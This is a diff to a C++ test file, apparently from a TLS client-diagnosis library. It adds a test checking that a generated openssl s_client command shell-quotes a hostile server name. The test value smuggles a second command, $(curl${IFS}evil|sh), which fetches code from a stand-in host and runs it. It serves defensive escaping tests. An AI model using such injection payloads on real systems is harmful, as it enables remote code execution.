@@ -8,6 +8,7 @@
 #include "contact/client_kind.h"
 
 using namespace pforte::contact;
+namespace net = pforte::net;
 
 namespace {
 
@@ -84,6 +85,15 @@ TEST_CASE("and so it is whatever kind of client it was") {
   for (std::string_view fingerprint : {kChromium, kJava, kCurl, kNode, kFirefox}) {
     for (int alert = -1; alert < 256; ++alert) is_told(refused_by(alert, fingerprint));
   }
+}
+
+TEST_CASE("what a client has sent as a name runs nothing where the command is pasted") {
+  Contact contact = refused_by(48);
+  contact.server_name = "$(curl${IFS}evil|sh)'.example.com";
+  contact.listener = net::parse_address("192.0.2.1:443").value();
+  CHECK(cause_of(contact).command ==
+        "openssl s_client -connect '$(curl${IFS}evil|sh)'\\''.example.com:443' -servername "
+        "'$(curl${IFS}evil|sh)'\\''.example.com' -showcerts </dev/null");
 }
 
 TEST_CASE("clients are known by the ciphers that they offer") {
